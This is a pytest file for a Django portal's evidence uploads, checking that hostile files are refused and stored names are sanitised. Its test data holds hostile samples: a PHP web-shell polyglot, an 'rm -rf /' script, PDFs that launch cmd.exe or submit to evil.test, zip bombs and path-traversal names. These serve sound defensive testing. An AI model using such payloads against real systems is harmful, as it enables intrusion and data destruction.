"""Evidence files: content-checked uploads, hostile files refused with nothing
stored, sanitised names, soft withdrawal, and access-checked downloads."""

import hashlib
import io
import struct
import zipfile
import zlib
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from assessments.evidence import attach
from assessments.evidence.checks import EvidenceRejected, evidence_check, safe_display_name
from assessments.models import (
    Answer,
    AnswerEvent,
    AnswerState,
    EventKind,
    EvidenceFile,
    EvidenceLink,
)
from spbe_portal.errors import Invalid
from tests.pdf_samples import CATALOG, MINIMAL_PDF, PAGE, PAGES, pdf, pdf_with_object_stream

pytestmark = pytest.mark.django_db

# --- sample files ----------------------------------------------------------------------

PDF = MINIMAL_PDF


def pdf_catalog(extra: bytes, *, stream: bool = False, compress_xref: bool = False) -> bytes:
    """A one-page PDF whose catalog carries `extra`, written plainly or inside
    a compressed object stream."""
    catalog = CATALOG.replace(b">>", extra + b" >>")
    if stream:
        return pdf_with_object_stream(catalog, PAGES, PAGE, compress_xref=compress_xref)
    return pdf(catalog, PAGES, PAGE)


def png() -> bytes:
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
JPEG += b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
GIF += b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24

DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="'
    b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)


def package(parts: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(zipfile.ZipInfo(stored_first), parts[stored_first], zipfile.ZIP_STORED)
        for name, data in parts.items():
            if name != stored_first:
                archive.writestr(name, data)
    return buffer.getvalue()


def docx(**extra) -> bytes:
    return package(
        {
            "[Content_Types].xml": DOCX_TYPES,
            "word/document.xml": b"<w:document>Peraturan Gubernur 4/2023</w:document>",
            **extra,
        }
    )


def xlsx() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "Indikator"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def odt(mimetype=b"application/vnd.oasis.opendocument.text") -> bytes:
    return package(
        {"mimetype": mimetype, "content.xml": b"<office:document-content/>"},
        stored_first="mimetype",
    )


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def ole(*streams: str) -> bytes:
    return OLE_HEADER + b"".join(s.encode("utf-16-le") + b"\x00" * 16 for s in streams)


def zip_bomb() -> bytes:
    """40 MB of zeros inflating from a few dozen KB, dressed as a DOCX."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        with archive.open("word/document.xml", "w") as part:
            block = b"\x00" * (1024 * 1024)
            for _ in range(40):
                part.write(block)
    return buffer.getvalue()


def many_entries() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        for i in range(5_100):
            archive.writestr(f"word/p{i}.xml", b"")
    return buffer.getvalue()


def png_with_zip() -> bytes:
    return png() + package({"payload.class": b"\xca\xfe\xba\xbe" + b"\x00" * 64})


# --- fixtures and helpers ------------------------------------------------------------------


@pytest.fixture
def world(officer_world, evidence_storage):
    officer_world.storage = evidence_storage
    return officer_world


def stored_files(location):
    return [p for p in location.rglob("*") if p.is_file()]


def upload(client, answer, *files):
    url = reverse("assessments:evidence_upload", kwargs={"public_id": answer.public_id})
    return client.post(url, {"files": [SimpleUploadedFile(name, data) for name, data in files]})


def download_url(evidence, **query):
    url = reverse("assessments:evidence_download", kwargs={"public_id": evidence.public_id})
    return url + ("?inline=1" if query.get("inline") else "")


# --- accepted files ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("Pergub 4 2023.pdf", PDF, "application/pdf"),
        # Opening on a page is an action too, and a harmless one.
        ("buka halaman.pdf", pdf_catalog(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
        (
            "terkompresi.pdf",
            pdf_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", stream=True),
            "application/pdf",
        ),
        ("tangkapan layar.png", png(), "image/png"),
        ("foto.jpg", JPEG, "image/jpeg"),
        ("animasi.gif", GIF, "image/gif"),
        ("gambar.webp", WEBP, "image/webp"),
        (
            "SK Tim SPBE.docx",
            docx(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "rekap.xlsx",
            xlsx(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("notulen.odt", odt(), "application/vnd.oasis.opendocument.text"),
        ("lama.doc", ole("Root Entry", "WordDocument"), "application/msword"),
        ("lama.xls", ole("Root Entry", "Workbook"), "application/vnd.ms-excel"),
        ("screenshot.png.jpg", JPEG, "image/jpeg"),
        ("disimpan sebagai jpg.jpg", png(), "image/png"),  # images may carry any image name
    ],
)
def test_valid_files_are_accepted_with_sha256(client, world, name, data, content_type):
    client.force_login(world.officer)
    response = upload(client, world.answer, (name, data))
    assert response.status_code == 302, response.content.decode()[:500]
    evidence = EvidenceFile.objects.get()
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    assert evidence.size == len(data)
    assert evidence.content_type == content_type
    assert evidence.original_name == name
    assert evidence.uploaded_by == world.officer
    # Stored outside any served path under a random name, never the user's.
    [path] = stored_files(world.storage)
    assert path.read_bytes() == data
    assert name not in str(path)
    assert evidence.file.name.startswith(f"evidence/{world.period.pk}/")
    event = AnswerEvent.objects.get(kind=EventKind.EVIDENCE_ADDED)
    assert name in event.value_after and event.actor == world.officer


# --- hostile files -------------------------------------------------------------------------------

HOSTILE = [
    ("exe-as-pdf", "laporan.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "program"),
    ("elf-as-png", "gambar.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "program"),
    ("shell-script", "skrip.pdf", b"#!/bin/sh\nrm -rf /\n", "program"),
    ("java-class-as-jpg", "foto.jpg", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "program"),
    ("html", "halaman.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "HTML"),
    ("html-bom", "doc.docx", b"\xef\xbb\xbf  \n<html><body onload=alert(1)>", "HTML"),
    (
        "svg-script",
        "logo.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "SVG",
    ),
    ("svg-named-svg", "logo.svg", b'<?xml version="1.0"?><svg><circle r="1"/></svg>', "SVG"),
    ("zip-bomb-docx", "bom.docx", zip_bomb(), "bom zip"),
    ("zip-many-entries", "banyak.docx", many_entries(), "bom zip"),
    ("plain-zip-as-docx", "arsip.docx", package({"a.txt": b"halo"}), "bukan dokumen"),
    (
        "docx-with-macros",
        "makro.docx",
        docx(**{"word/vbaProject.bin": b"\x00" * 100}),
        "makro",
    ),
    (
        "docm-as-docx",
        "makro2.docx",
        package(
            {
                "[Content_Types].xml": DOCX_TYPES.replace(
                    b"wordprocessingml.document.main+xml",
                    b'wordprocessingml.document.main+xml"/><Default ContentType='
                    b'"application/vnd.ms-word.document.macroEnabled.main+xml',
                )
            }
        ),
        "makro",
    ),
    (
        "gif-js-polyglot",
        "gambar.gif",
        b"GIF89a/*\x00\x00*/=1;<script>alert(1)</script>",
        "polyglot",
    ),
    ("png-zip-polyglot", "gambar.png", png_with_zip(), "polyglot"),
    (
        "jpeg-php-polyglot",
        "foto.jpg",
        JPEG[:20] + b"<?php system($_GET['c']); ?>" + JPEG[20:],
        "polyglot",
    ),
    ("pdf-html-polyglot", "dok.pdf", PDF + b"<html><script>alert(1)</script></html>", "polyglot"),
    (
        "pdf-javascript",
        "aksi.pdf",
        pdf_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "JavaScript",
    ),
    (
        "pdf-launch",
        "luncur.pdf",
        pdf_catalog(b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
        "JavaScript",
    ),
    # Names may be written with #xx escapes: /J#61vaScript is /JavaScript.
    (
        "pdf-escaped-name",
        "escape.pdf",
        pdf_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "JavaScript",
    ),
    # The whole document inside a Flate-compressed object stream: no name is
    # visible in the file's bytes.
    (
        "pdf-object-stream",
        "objstm.pdf",
        pdf_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", stream=True),
        "JavaScript",
    ),
    (
        "pdf-compressed-stream",
        "kompres.pdf",
        pdf_catalog(
            b"/AA << /WC << /S /SubmitForm /F (https://evil.test/) >> >>",
            stream=True,
            compress_xref=True,
        ),
        "JavaScript",
    ),
    (
        "pdf-embedded-file",
        "lampiran.pdf",
        pdf_catalog(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) "
            b"/EF << /F 4 0 R >> >>] >> >>",
            stream=True,
        ),
        "JavaScript",
    ),
    (
        "pdf-open-action-uri",
        "uri.pdf",
        pdf_catalog(b"/OpenAction << /S /URI /URI (https://evil.test/) >>", stream=True),
        "JavaScript",
    ),
    ("pdf-unreadable", "rusak.pdf", b"%PDF-1.4\n1 0 obj << /S /Java", "tidak dapat diperiksa"),
    ("empty", "kosong.pdf", b"", "kosong"),
    ("unknown-binary", "acak.pdf", bytes(range(256)) * 4, "tidak dikenali"),
    ("plain-text", "catatan.txt", b"hanya teks biasa\n", "tidak dikenali"),
    ("png-named-pdf", "laporan.pdf", png(), "tidak sesuai"),
    ("pdf-named-docx", "laporan.docx", PDF, "tidak sesuai"),
    ("msi-like-ole-as-doc", "pasang.doc", ole("Root Entry", "SummaryInformation"), "bukan dokumen"),
    ("ole-macros", "makro.doc", ole("WordDocument", "Macros", "_VBA_PROJECT"), "makro"),
    ("odt-wrong-mimetype", "x.odt", odt(b"application/x-evil"), "bukan dokumen"),
    ("bidi-disguised-exe", "laporan\u202efdp.exe", PDF, "tidak sesuai"),
    ("docx-named-exe", "pasang.exe", docx(), "tidak sesuai"),
]


@pytest.mark.parametrize(
    ("name", "data", "message"), [case[1:] for case in HOSTILE], ids=[c[0] for c in HOSTILE]
)
def test_hostile_upload_is_refused_and_nothing_is_stored(client, world, name, data, message):
    client.force_login(world.officer)
    response = upload(client, world.answer, (name, data))
    assert response.status_code == 400
    body = response.content.decode()
    assert message.lower() in body.lower(), body[body.find("answer-error") :][:400]
    assert not EvidenceFile.objects.exists()
    assert not AnswerEvent.objects.exists()
    assert stored_files(world.storage) == []


def test_at_least_twenty_hostile_cases():
    assert len(HOSTILE) >= 20


def test_oversized_file_is_refused(client, world, settings):
    settings.EVIDENCE_MAX_BYTES = 1024
    client.force_login(world.officer)
    response = upload(client, world.answer, ("besar.pdf", PDF + b"%" * 2000))
    assert response.status_code == 400
    assert "terlalu besar" in response.content.decode()
    assert not EvidenceFile.objects.exists()
    assert stored_files(world.storage) == []


def test_size_is_counted_while_streaming_not_trusted_from_the_upload(settings):
    settings.EVIDENCE_MAX_BYTES = 1024
    lying = SimpleUploadedFile("besar.pdf", PDF + b"%" * 5000)
    lying.size = 10
    with pytest.raises(EvidenceRejected, match="terlalu besar"):
        evidence_check(lying)


def test_one_bad_file_does_not_block_the_good_ones(client, world):
    client.force_login(world.officer)
    response = upload(client, world.answer, ("baik.pdf", PDF), ("jahat.pdf", b"MZ" + b"\x00" * 50))
    assert response.status_code == 400
    body = response.content.decode()
    assert "1 berkas diterima" in body and "jahat.pdf" in body
    assert EvidenceFile.objects.get().original_name == "baik.pdf"
    assert len(stored_files(world.storage)) == 1


# --- names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\x.pdf", "x.pdf"),
        ("laporan\x00.exe.pdf", "laporan.exe.pdf"),
        ("  .tersembunyi.pdf  ", "tersembunyi.pdf"),
        ("a\tb\nc.pdf", "a b c.pdf"),
        ("", "berkas"),
        ("../", "berkas"),
        ("laporan\u202efdp.exe", "laporanfdp.exe"),
    ],
)
def test_safe_display_name(raw, expected):
    assert safe_display_name(raw) == expected


def test_very_long_unicode_name_is_truncated_keeping_the_extension():
    name = safe_display_name("Laporan Evaluasi SPBE Kaltim 📄 " * 20 + ".pdf")
    assert len(name) <= 150
    assert name.endswith(".pdf")


# Django's UploadedFile already cuts a name at its last "/", so only
# backslash traversal and null bytes reach the portal's own check.
@pytest.mark.parametrize("raw", ["..\\..\\windows\\x.pdf", "laporan\x00.pdf", "a\\..\\b.pdf"])
def test_traversal_and_null_byte_names_are_refused(world, raw):
    uploaded = SimpleUploadedFile("x.pdf", PDF)
    uploaded.name = raw  # bypass the upload parser's own cleaning
    with pytest.raises(Invalid, match="Nama berkas tidak sah"):
        attach.evidence_add(answer=world.answer, user=world.officer, uploaded_file=uploaded)
    assert not EvidenceFile.objects.exists()
    assert stored_files(world.storage) == []


def test_directories_and_long_unicode_names_are_stored_safely(world):
    for raw in (
        "C:\\Users\\petugas\\laporan.pdf",
        "../../../../tmp/evil.pdf",
        "ü" * 400 + ".pdf",
    ):
        uploaded = SimpleUploadedFile("x.pdf", PDF)
        uploaded.name = raw
        evidence = attach.evidence_add(
            answer=world.answer, user=world.officer, uploaded_file=uploaded
        )
        assert "/" not in evidence.original_name and "\\" not in evidence.original_name
        assert len(evidence.original_name) <= 150
        assert evidence.original_name.endswith(".pdf")
    for path in stored_files(world.storage):
        assert path.resolve().is_relative_to(world.storage.resolve())
        assert path.parent.name == str(world.period.pk)


def test_long_unicode_name_through_the_client(client, world):
    client.force_login(world.officer)
    name = "Dokumen Kebijakan Arsitektur SPBE Provinsi Kalimantan Timur ✓ " * 6 + ".pdf"
    assert upload(client, world.answer, (name, PDF)).status_code == 302
    stored = EvidenceFile.objects.get().original_name
    assert stored.endswith(".pdf") and len(stored) <= 150


# --- rules around uploads -----------------------------------------------------------------------


def test_upload_to_a_submitted_answer_is_refused(client, world):
    Answer.objects.filter(pk=world.answer.pk).update(state=AnswerState.SUBMITTED)
    client.force_login(world.officer)
    response = upload(client, world.answer, ("baik.pdf", PDF))
    assert response.status_code == 409
    assert stored_files(world.storage) == []


def test_upload_after_deadline_is_refused(client, world):
    world.period.fill_closes_at = timezone.now() - timedelta(seconds=1)
    world.period.save()
    client.force_login(world.officer)
    response = upload(client, world.answer, ("baik.pdf", PDF))
    assert response.status_code == 403
    assert "batas pengisian" in response.content.decode()
    assert stored_files(world.storage) == []


def test_outsiders_cannot_upload(client, world):
    for user in (world.outsider, world.foreign):
        client.force_login(user)
        assert upload(client, world.answer, ("baik.pdf", PDF)).status_code == 404
    assert stored_files(world.storage) == []


def test_no_file_chosen(client, world):
    client.force_login(world.officer)
    url = reverse("assessments:evidence_upload", kwargs={"public_id": world.answer.public_id})
    response = client.post(url, {})
    assert response.status_code == 400
    assert "minimal satu berkas" in response.content.decode()


# --- withdrawal ----------------------------------------------------------------------------------


def add(world, name="bukti.pdf", data=PDF, user=None):
    return attach.evidence_add(
        answer=world.answer,
        user=user or world.officer,
        uploaded_file=SimpleUploadedFile(name, data),
    )


def test_withdraw_is_soft_and_recorded(client, world):
    evidence = add(world)
    client.force_login(world.officer)
    url = reverse("assessments:evidence_withdraw", kwargs={"public_id": evidence.public_id})
    assert client.post(url).status_code == 302
    evidence.refresh_from_db()
    assert evidence.withdrawn_at is not None
    assert len(stored_files(world.storage)) == 1  # the file stays
    event = AnswerEvent.objects.get(kind=EventKind.EVIDENCE_WITHDRAWN)
    assert "bukti.pdf" in event.value_before and event.actor == world.officer
    page = client.get(
        reverse("assessments:answer_detail", kwargs={"public_id": world.answer.public_id})
    ).content.decode()
    assert "Data dukung yang ditarik" in page and "<del>bukti.pdf</del>" in page
    # Withdrawing twice is a clear refusal, not an error page.
    response = client.post(url)
    assert response.status_code == 400
    assert "sudah ditarik" in response.content.decode()


def test_outsider_cannot_withdraw(client, world):
    evidence = add(world)
    url = reverse("assessments:evidence_withdraw", kwargs={"public_id": evidence.public_id})
    for user in (world.outsider, world.foreign):
        client.force_login(user)
        assert client.post(url).status_code == 404
    evidence.refresh_from_db()
    assert evidence.withdrawn_at is None


def test_contributor_withdraws_only_own_evidence(client, world):
    world.assignment.contributors.add(world.other_opd)
    own = add(world, "kontribusi.pdf", user=world.outsider)
    owners = add(world, "milik-opd.pdf")
    client.force_login(world.outsider)
    url = reverse("assessments:evidence_withdraw", kwargs={"public_id": owners.public_id})
    assert client.post(url).status_code == 403
    url = reverse("assessments:evidence_withdraw", kwargs={"public_id": own.public_id})
    assert client.post(url).status_code == 302


# --- download -------------------------------------------------------------------------------------


def body_of(response) -> bytes:
    return b"".join(response.streaming_content)


def test_download_streams_as_attachment_with_safe_headers(client, world):
    evidence = add(world, "Pergub Kaltim 4 2023.pdf")
    client.force_login(world.officer)
    response = client.get(download_url(evidence))
    assert response.status_code == 200
    assert body_of(response) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Pergub Kaltim 4 2023.pdf" in response["Content-Disposition"]


def test_inline_only_for_pdf_and_images(client, world):
    pdf = add(world, "a.pdf")
    image = add(world, "b.png", png())
    document = add(world, "c.docx", docx())
    client.force_login(world.reviewer)
    response = client.get(download_url(pdf, inline=True))
    assert response["Content-Disposition"].startswith("inline")
    # A script that slipped past the check still cannot run in the preview.
    assert "sandbox" in response["Content-Security-Policy"].split(";")[-1]
    response = client.get(download_url(image, inline=True))
    assert response["Content-Disposition"].startswith("inline")
    assert "sandbox" in response["Content-Security-Policy"]
    response = client.get(download_url(document, inline=True))
    assert response["Content-Disposition"].startswith("attachment")


def test_withdrawn_evidence_stays_downloadable_for_the_audit(client, world):
    evidence = add(world)
    attach.evidence_withdraw(evidence=evidence, user=world.officer)
    client.force_login(world.reviewer)
    assert client.get(download_url(evidence)).status_code == 200


def test_download_is_404_for_outsiders_and_login_for_anonymous(client, world):
    evidence = add(world)
    for user in (world.outsider, world.foreign):
        client.force_login(user)
        assert client.get(download_url(evidence)).status_code == 404
    client.logout()
    response = client.get(download_url(evidence))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_unknown_evidence_id_is_404(client, world):
    client.force_login(world.officer)
    url = reverse(
        "assessments:evidence_download",
        kwargs={"public_id": "00000000-0000-0000-0000-000000000000"},
    )
    assert client.get(url).status_code == 404


def test_oversized_file_is_skipped_while_streaming(client, world, settings):
    """The size-limit handler drops the file before it reaches a temporary
    file; the good file in the same request is still stored."""
    settings.EVIDENCE_MAX_BYTES = 4096
    client.force_login(world.officer)
    response = upload(client, world.answer, ("besar.pdf", PDF + b"%" * 100_000), ("kecil.pdf", PDF))
    assert response.status_code == 400
    body = response.content.decode()
    assert "besar.pdf" in body and "terlalu besar" in body and "1 berkas diterima" in body
    assert EvidenceFile.objects.get().original_name == "kecil.pdf"


def test_upload_still_checks_csrf(world):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(world.officer)
    response = upload(client, world.answer, ("baik.pdf", PDF))
    assert response.status_code == 403
    assert not EvidenceFile.objects.exists()


def test_large_upload_spooled_to_a_temporary_file_is_checked_and_stored(client, world):
    """Above FILE_UPLOAD_MAX_MEMORY_SIZE Django spools to a temporary file;
    the zip directory is read from it and the stored copy is complete."""
    import os

    data = docx(**{"word/media/image1.png": os.urandom(3 * 1024 * 1024)})
    client.force_login(world.officer)
    assert upload(client, world.answer, ("besar.docx", data)).status_code == 302
    evidence = EvidenceFile.objects.get()
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    [path] = stored_files(world.storage)
    assert path.read_bytes() == data


# --- evidence links ---------------------------------------------------------------------------


def link_add_url(answer):
    return reverse("assessments:evidence_link_add", kwargs={"public_id": answer.public_id})


@pytest.mark.parametrize(
    "url",
    [
        "https://ex\u202eample.test/",  # right-to-left override: reads as another host
        "https://example.test/\u202egnp.exe",
        "https://exa\u200bmple.test/",  # zero-width space
        "https://example.test/a\u2066b",  # bidi isolate
        "https://example.test/\u00ad",  # soft hyphen (invisible)
        "https://example.test/\x07",
    ],
)
def test_links_with_control_bidi_or_invisible_characters_are_refused(client, world, url):
    client.force_login(world.officer)
    response = client.post(link_add_url(world.answer), {"url": url, "note": ""})
    assert response.status_code == 400
    assert "Tautan harus berupa alamat" in response.content.decode()
    assert not EvidenceLink.objects.exists()
    assert not AnswerEvent.objects.exists()


def test_internationalised_host_is_stored_and_shown_in_ascii(client, world):
    client.force_login(world.officer)
    response = client.post(
        link_add_url(world.answer), {"url": "https://bücher.example/daftar?q=ä", "note": ""}
    )
    assert response.status_code == 302
    link = EvidenceLink.objects.get()
    assert link.url == "https://xn--bcher-kva.example/daftar?q=ä"
    page = client.get(
        reverse("assessments:answer_detail", kwargs={"public_id": world.answer.public_id})
    )
    assert "xn--bcher-kva.example" in page.content.decode()
    assert "bücher" not in page.content.decode()


def test_ascii_links_are_kept_as_typed(client, world):
    client.force_login(world.officer)
    url = "https://user@sso.kaltimprov.go.id:8443/masuk?next=/a#b"
    assert client.post(link_add_url(world.answer), {"url": url, "note": ""}).status_code == 302
    assert EvidenceLink.objects.get().url == url


def test_pdf_with_more_objects_than_the_check_walks_is_refused(client, world, monkeypatch):
    """The walk is bounded, so a PDF of millions of tiny objects cannot keep
    a web worker busy; such a file is refused like an unreadable one."""
    from assessments.evidence import pdf as pdf_check

    monkeypatch.setattr(pdf_check, "PDF_MAX_OBJECTS", 10)
    many = pdf(CATALOG, PAGES, PAGE, *[b"<< /N %d >>" % i for i in range(20)])
    client.force_login(world.officer)
    response = upload(client, world.answer, ("banyak.pdf", many))
    assert response.status_code == 400
    assert "tidak dapat diperiksa" in response.content.decode()
    assert not EvidenceFile.objects.exists()


def test_pdf_check_does_not_hold_a_large_content_stream(tmp_path):
    """The walk reads a stream's dictionary, not its data: a PDF of one 20 MB
    content stream is inspected in a few MB (the byte pass reads 1 MB chunks)."""
    import tracemalloc

    from assessments.evidence import pdf as pdf_check

    page = PAGE[:-2] + b"/Contents 4 0 R >>"
    drawing = b"0 0 0 RG 72 712 m 540 712 l S\n" * (20 * 1024 * 1024 // 30)
    path = tmp_path / "besar.pdf"
    path.write_bytes(
        pdf(
            CATALOG,
            PAGES,
            page,
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawing), drawing),
        )
    )
    with path.open("rb") as handle:
        tracemalloc.start()
        try:
            assert pdf_check.has_active_content(handle) is False
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert peak < 8 * 1024 * 1024


@pytest.mark.parametrize(
    "data",
    [
        # An object stream that inflates far past the decoding bound.
        pdf_with_object_stream(CATALOG, PAGES, PAGE + b" " * (80 * 1024 * 1024)),
        # LZW output has no bound in qpdf: the filter is refused in any spelling.
        pdf(CATALOG, PAGES, PAGE, b"<< /Filter /#4CZW#44ecode /Length 0 >>\nstream\n\nendstream"),
    ],
    ids=["inflating-object-stream", "lzw-filter"],
)
def test_pdf_streams_that_decode_without_bound_are_refused(client, world, data):
    client.force_login(world.officer)
    response = upload(client, world.answer, ("bom.pdf", data))
    assert response.status_code == 400
    assert "tidak dapat diperiksa" in response.content.decode()
    assert not EvidenceFile.objects.exists()
